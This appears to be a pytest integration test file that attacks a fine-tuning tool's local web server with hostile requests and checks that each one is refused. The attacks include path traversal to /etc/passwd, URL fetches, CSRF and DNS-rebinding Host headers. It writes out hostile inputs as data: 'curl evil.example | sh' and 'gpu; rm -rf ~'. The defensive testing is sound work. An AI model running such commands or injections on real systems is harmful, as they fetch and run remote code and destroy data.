"""`tuitune serve` against a hostile client: a real uvicorn server on a loopback port, attacked
through every field that names a place, with URLs, with code to run, from another web site and
under a foreign Host name. Each attack is refused in one line and leaves no run behind."""

from __future__ import annotations

import socket
import threading
from pathlib import Path
from typing import Any, Literal, get_args, get_origin

import httpx
import pytest

from tests.helpers import running_server, wait_for
from tuitune.config import RunConfig
from tuitune.locations import Location, RunsCode, _markers, declared
from tuitune.store import open_store
from tuitune.system import child

pytestmark = pytest.mark.integration  # a real tuitune serve on a loopback port

# Text fields that name no place and run nothing. A new text field of the configuration must be
# declared with a type from tuitune.locations, or be added here on purpose.
PLAIN_TEXT = {
    "name",
    "model.revision",
    "data.hub_config",
    "data.split",
    "data.text_columns",
    "lora.target_modules",
    "lora.modules_to_save",
    "training.report_to",
    "training.early_stopping_metric",  # the name of a logged eval metric
    "grpo.answer_column",
    "grpo.format_pattern",  # a regular expression the worker matches completions with
    # SLURM's names and sizes, each held to sbatch's own pattern (no path, no shell)
    "slurm.partition",
    "slurm.account",
    "slurm.qos",
    "slurm.time_limit",
    "slurm.memory",
}


def holds_text(annotation: Any) -> bool:
    """Whether a field's type takes free text (a `Literal` of words does not)."""
    return annotation is str or (get_origin(annotation) is not Literal and any(map(holds_text, get_args(annotation))))


def test_every_text_field_of_the_configuration_says_what_it_names() -> None:
    unclassified = [
        key
        for key, annotation in declared(RunConfig)
        if holds_text(annotation)
        and key not in PLAIN_TEXT
        and not _markers(annotation, Location)
        and not _markers(annotation, RunsCode)
    ]
    assert unclassified == []


def refused(response: httpx.Response, *words: str, status: int = 422) -> None:
    assert response.status_code == status, response.text
    detail = response.json()["detail"]
    assert "\n" not in detail and all(word in detail for word in words), detail


@pytest.fixture
def folders(tmp_path: Path) -> tuple[Path, Path]:
    """A data root holding one good file, and a folder outside it with a secret."""
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (root / "inside.jsonl").write_text('{"instruction": "hi", "output": "hello"}\n')
    (outside / "secret.jsonl").write_text('{"instruction": "password", "output": "hunter2"}\n')
    (root / "link").symlink_to(outside)
    return root, outside


def test_no_path_bearing_field_reaches_a_file_outside_the_data_roots(folders: tuple[Path, Path]) -> None:
    root, outside = folders
    secret = str(outside / "secret.jsonl")
    attacks: list[dict[str, Any]] = [
        {"data": {"source": "json", "data_files": secret}},
        {"data": {"source": "json", "data_files": [str(root / "inside.jsonl"), secret]}},
        {"data": {"source": "text", "data_files": "/etc/passwd"}},
        {"data": {"source": str(root), "data_files": "../outside/secret.jsonl"}},
        {"data": {"source": str(root), "data_files": str(root / "link" / "secret.jsonl")}},
        {"data": {"source": "json", "data_files": str(root / "*" / "secret.jsonl")}},  # a glob through the link
        {"data": {"source": "owner/dataset", "data_files": "/etc/passwd"}},
        {"data": {"source": secret}},
        {"data": {"source": str(root / "link" / "secret.jsonl")}},
        {"model": {"name_or_path": str(outside)}},
        {"training": {"output_dir": str(outside)}},
    ]
    # --allow-hub: the Hub dataset is allowed, so its local data_files are what gets refused.
    with running_server("--data-root", str(root), "--allow-hub") as url:
        for attack in attacks:
            response = httpx.post(f"{url}/runs", json=attack)
            assert response.status_code == 422, (attack, response.text)
            detail = response.json()["detail"]
            assert any(words in detail for words in ("outside the folders", "climbs out", "on the Hub")), detail
        # The one good file is fine: the guard refuses places, not data files as such.
        httpx.post(f"{url}/queue/pause", json={"paused": True}).raise_for_status()
        good = httpx.post(f"{url}/runs", json={"data": {"source": "json", "data_files": str(root / "inside.jsonl")}})
        assert good.status_code == 201, good.text
    runs = open_store().list_runs()
    assert [run.id for run in runs] == [good.json()["id"]]


def test_no_field_makes_the_server_fetch_a_url() -> None:
    # Something listening where the URLs point: it must never be asked for anything.
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    contacted = threading.Event()
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            try:
                listener.accept()[0].close()
                contacted.set()
            except OSError:
                continue

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    address = f"http://127.0.0.1:{port}/x.jsonl"
    try:
        with running_server("--allow-hub") as url:
            for attack in (
                {"data": {"source": "json", "data_files": address}},
                {"data": {"source": "json", "data_files": ["a.jsonl", address]}},
                {"data": {"source": address}},
                {"data": {"source": "hf://datasets/owner/name"}},
                {"model": {"name_or_path": f"https://127.0.0.1:{port}/model"}},
            ):
                refused(httpx.post(f"{url}/runs", json=attack), "is a URL", "fetches no URL")
            refused(
                httpx.post(f"{url}/finetune", json={"model_name": address, "dataset_name": "tuitune/sample"}),
                "is a URL",
            )
    finally:
        done.set()
        watcher.join(timeout=5)
        listener.close()
    assert not contacted.is_set()
    assert open_store().count_runs() == 0


def test_code_and_hub_ids_named_by_a_request_are_refused_unless_the_server_allows_them(tuitune_home: Path) -> None:
    with running_server() as url:
        refused(
            httpx.post(f"{url}/runs", json={"model": {"trust_remote_code": True}}),
            "model.trust_remote_code",
            "--allow-remote-code",
        )
        refused(
            httpx.post(f"{url}/runs", json={"model": {"attn_implementation": "kernels-community/flash-attn"}}),
            "attention kernel from the Hub",
        )
        refused(httpx.post(f"{url}/runs", json={"model": {"name_or_path": "owner/model"}}), "Hub id", "--allow-hub")
        refused(httpx.post(f"{url}/runs", json={"data": {"source": "owner/data"}}), "Hub id", "--allow-hub")
        refused(
            httpx.post(f"{url}/finetune", json={"model_name": "owner/model", "dataset_name": "tuitune/sample"}),
            "Hub id",
        )
        refused(
            httpx.post(f"{url}/runs", json={"distributed": {"nnodes": 2, "master_addr": "10.1.2.3"}}),
            "another machine",
        )
        # A SLURM job's shell lines and sbatch options are code the cluster runs.
        for key, lines in (("setup", ["curl evil.example | sh"]), ("extra_sbatch", ["--uid=0"])):
            refused(
                httpx.post(f"{url}/runs", json={"backend": "slurm", "slurm": {key: lines}}),
                f"slurm.{key}",
                "--allow-remote-code",
            )
        refused(httpx.post(f"{url}/runs", json={"slurm": {"partition": "gpu; rm -rf ~"}}), "slurm.partition")
    assert open_store().count_runs() == 0
    # Started to allow them, the same requests are taken (the queue is paused: nothing downloads).
    with running_server("--allow-remote-code", "--hub-id", "owner/model") as url:
        httpx.post(f"{url}/queue/pause", json={"paused": True}).raise_for_status()
        taken = httpx.post(f"{url}/runs", json={"model": {"name_or_path": "owner/model", "trust_remote_code": True}})
        assert taken.status_code == 201, taken.text
        refused(httpx.post(f"{url}/runs", json={"model": {"name_or_path": "other/model"}}), "Hub id")
    assert open_store().count_runs() == 1


def test_a_reward_function_from_a_file_is_code_and_refused_unless_the_server_allows_it(tmp_path: Path) -> None:
    rewards = tmp_path / "rewards.py"
    rewards.write_text(
        "import os\n\ndef score(prompts, completions, **columns):\n    return [0.0] * len(completions)\n"
    )
    prompts = tmp_path / "prompts.jsonl"
    prompts.write_text('{"prompt": "Say 7.", "answer": "7"}\n' * 8)
    run = {"objective": "grpo", "data": {"source": str(prompts)}, "grpo": {"rewards": ["format", f"{rewards}:score"]}}
    with running_server("--data-root", str(tmp_path)) as url:
        refused(
            httpx.post(f"{url}/runs", json=run),
            "grpo.rewards",
            "reward functions from a Python file",
            "--allow-remote-code",
        )
        # The built-in rewards run no code of the request's: taken (the queue is paused: nothing trains).
        httpx.post(f"{url}/queue/pause", json={"paused": True}).raise_for_status()
        builtin = httpx.post(f"{url}/runs", json={**run, "grpo": {"rewards": ["format"]}})
        assert builtin.status_code == 201, builtin.text
    assert open_store().count_runs() == 1
    with running_server("--data-root", str(tmp_path), "--allow-remote-code") as url:
        httpx.post(f"{url}/queue/pause", json={"paused": True}).raise_for_status()
        taken = httpx.post(f"{url}/runs", json=run)
        assert taken.status_code == 201, taken.text
    assert open_store().count_runs() == 2


def test_a_stored_run_that_runs_code_is_not_resumed_evaluated_or_merged_through_a_server_that_forbids_code(
    tmp_path: Path,
) -> None:
    # A run created from the CLI by a user who trusted its reward file (or its model's own code):
    # a request naming the run names that code too, and a server not started to run code refuses.
    from tuitune.store import COMPLETED

    rewards = tmp_path / "rewards.py"
    rewards.write_text("def score(prompts, completions, **columns):\n    return [0.0] * len(completions)\n")
    store = open_store()
    config = {"objective": "grpo", "grpo": {"rewards": [f"{rewards}:score"]}}
    graded = store.create_run(name="graded", config=config, model="m", method="lora", dataset="d", status=COMPLETED)
    own_code = store.create_run(
        name="own-code",
        config={"model": {"trust_remote_code": True}},
        model="m",
        method="lora",
        dataset="d",
        status=COMPLETED,
    )
    with running_server() as url:
        for run, key in ((graded, "grpo.rewards"), (own_code, "model.trust_remote_code")):
            for action in ("resume", "evaluate", "merge"):
                refused(
                    httpx.post(f"{url}/runs/{run.id}/{action}", json={}),
                    f"Run {run.id}'s {key}",
                    f"{action} it from the CLI",
                    "--allow-remote-code",
                )
    assert {run.status for run in open_store().list_runs()} == {COMPLETED}
    # Started to allow code, the same request gets past the guard (to the next check: the run has
    # no checkpoint to resume from).
    with running_server("--allow-remote-code") as url:
        response = httpx.post(f"{url}/runs/{graded.id}/resume", json={})
        assert response.status_code in (409, 422) and "--allow-remote-code" not in response.text, response.text


def test_the_bundled_sets_are_tuitunes_own_names_and_need_no_hub() -> None:
    # They look like Hub ids, but are generated here: a server without --allow-hub takes them
    # (the queue is paused: nothing trains), and still refuses a real Hub id beside them.
    with running_server() as url:
        httpx.post(f"{url}/queue/pause", json={"paused": True}).raise_for_status()
        for objective, source in (("dpo", "tuitune/sample-preference"), ("grpo", "tuitune/sample-prompts")):
            taken = httpx.post(f"{url}/runs", json={"objective": objective, "data": {"source": source}})
            assert taken.status_code == 201, taken.text
        refused(httpx.post(f"{url}/runs", json={"data": {"source": "tuitune/sample-other"}}), "Hub id")
    assert open_store().count_runs() == 2


def test_children_never_inherit_the_api_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(child.API_TOKEN_ENV, "a-secret-api-token-0123456789")
    monkeypatch.setenv("HF_TOKEN", "hf_needed_for_gated_models")
    environment = child.child_environment({"EXTRA": "1"})
    assert child.API_TOKEN_ENV not in environment
    assert environment["HF_TOKEN"] == "hf_needed_for_gated_models" and environment["EXTRA"] == "1"


@pytest.mark.slow
# Alone it cancels in seconds; in the integration lane, and after the chat story in one session,
# it did not cancel at all, 3 times of 3 on 2026-12-02 (not understood yet: see the stop's note).
@pytest.mark.xfail(
    strict=False, reason="does not cancel when run after other tests in one session; under investigation"
)
def test_a_worker_started_by_a_token_server_cannot_read_its_token(demo_model_path: Path) -> None:
    import psutil

    token = "a-secret-api-token-0123456789"
    with running_server("--token", token) as url:
        headers = {"Authorization": f"Bearer {token}"}
        config = {"method": "full_finetuning", "data": {"max_length": 32}, "training": {"max_steps": 100_000}}
        created = httpx.post(f"{url}/runs", json=config, params={"queue": "false"}, headers=headers).json()

        def worker() -> Any:
            run = open_store().get_run(created["id"])
            return psutil.Process(run.pid) if run.pid and psutil.pid_exists(run.pid) else None

        process = wait_for(worker, what="the worker")
        environment = process.environ()
        assert "TUITUNE_HOME" in environment and child.API_TOKEN_ENV not in environment
        assert token not in " ".join(environment.values())
        httpx.post(f"{url}/runs/{created['id']}/cancel", headers=headers, json={}).raise_for_status()
        ended = wait_for(
            lambda: (
                (run := open_store().get_run(created["id"])).status in ("cancelled", "failed", "crashed", "completed")
                and run
            ),
            what="the cancel",
            timeout=300,  # the worker may still be loading on a busy machine; it stops at its next step
        )
        assert ended.status == "cancelled", (ended.status, ended.error)


def test_a_web_page_of_another_site_cannot_act_on_a_loopback_server(tuitune_home: Path) -> None:
    store = open_store()
    run = store.create_run(name="r", config={}, model="m", method="lora", dataset="d")
    with running_server() as url:
        form = {"content-type": "application/x-www-form-urlencoded"}
        # What a page can send without a preflight: a form post, a text/plain "JSON", a no-cors blob.
        refused(httpx.post(f"{url}/queue/pause", content=b"", headers=form), "X-Tuitune-Client", status=403)
        refused(httpx.post(f"{url}/runs/{run.id}/cancel", content=b"", headers=form), "JSON body", status=403)
        refused(httpx.post(f"{url}/runs", content=b'{"name": "x"}', headers={"content-type": "text/plain"}), status=403)
        refused(httpx.post(f"{url}/runs/{run.id}/cancel"), status=403)
        refused(httpx.delete(f"{url}/runs/{run.id}"), status=403)
        # JSON from a page of another origin (the browser adds Origin) or a sandboxed one.
        for origin in ("http://evil.example", f"{url.replace('127.0.0.1', 'localhost')}", "null"):
            refused(httpx.post(f"{url}/queue/pause", json={"paused": True}, headers={"Origin": origin}), status=403)
        refused(httpx.get(f"{url}/runs", headers={"Origin": "http://evil.example"}), "another web site", status=403)
        assert httpx.get(f"{url}/queue").json()["paused"] is False
        assert open_store().get_run(run.id).cancel_requested is False
        # The dashboard's own page, a program and curl with the header still act.
        assert httpx.post(f"{url}/queue/pause", json={"paused": True}, headers={"Origin": url}).status_code == 200
        unpause = httpx.post(f"{url}/queue/pause", params={}, json={"paused": False}, headers={"X-Tuitune-Client": "1"})
        assert unpause.status_code == 200 and httpx.get(f"{url}/queue").json()["paused"] is False


def test_a_foreign_host_name_gets_nothing(tuitune_home: Path) -> None:
    with running_server() as url:
        port = url.rsplit(":", 1)[1]
        for path in ("/runs", "/", "/health", "/static/index.html", "/openapi.json"):
            refused(
                httpx.get(f"{url}{path}", headers={"Host": f"rebind.evil.example:{port}"}),
                "does not answer to the host name",
                "--allowed-host",
                status=400,
            )
        for host in (f"localhost:{port}", f"127.0.0.1:{port}", "127.0.0.1", f"[::1]:{port}"):
            assert httpx.get(f"{url}/runs", headers={"Host": host}).status_code == 200, host
    with running_server("--allowed-host", "tuitune.lab") as url:
        assert httpx.get(f"{url}/runs", headers={"Host": "tuitune.lab"}).status_code == 200


def test_odd_numbers_and_bytes_get_a_4xx_with_one_line(tuitune_home: Path) -> None:
    store = open_store()
    run = store.create_run(name="r", config={}, model="m", method="lora", dataset="d")
    big = str(2**63)
    with running_server() as url:
        for path in (
            f"/runs/{big}",
            f"/runs/{big}/metrics",
            f"/runs/{big}/events",
            f"/runs/{big}/log",
            f"/runs/{big}/stream",
            f"/jobs/{big}",
            f"/logs/{big}",
            f"/tasks/{big}",
        ):
            response = httpx.get(f"{url}{path}")
            assert response.status_code == 404 and "\n" not in response.json()["detail"], path
        for path in (
            f"/runs/{run.id}/metrics?after_id={big}",
            f"/runs/{run.id}/events?after={big}",
            f"/runs?sweep={big}",
        ):
            refused(httpx.get(f"{url}{path}"), "less than or equal to")
        for cancel in (f"/runs/{big}/cancel", f"/jobs/{big}"):
            assert (
                httpx.request("POST" if "cancel" in cancel else "DELETE", f"{url}{cancel}", json={}).status_code == 404
            )
        for body in (
            {"model": {"name_or_path": "/models/x\u0000"}},
            {"data": {"source": "/data/x\u0000.jsonl"}},
            {"data": {"source": "json", "data_files": "x\u0000.jsonl"}},
            {"training": {"output_dir": "/tmp/x\u0000"}},
        ):
            refused(httpx.post(f"{url}/runs", json=body), "NUL")
        store.set_status(run.id, "completed")
        with httpx.stream(
            "GET", f"{url}/runs/{run.id}/stream", headers={"Last-Event-ID": "9" * 5000 + ".1"}, timeout=30
        ) as stream:
            assert stream.status_code == 200
            assert all("point" not in line for line in stream.iter_lines())  # nothing after an id that large
    assert open_store().count_runs() == 1
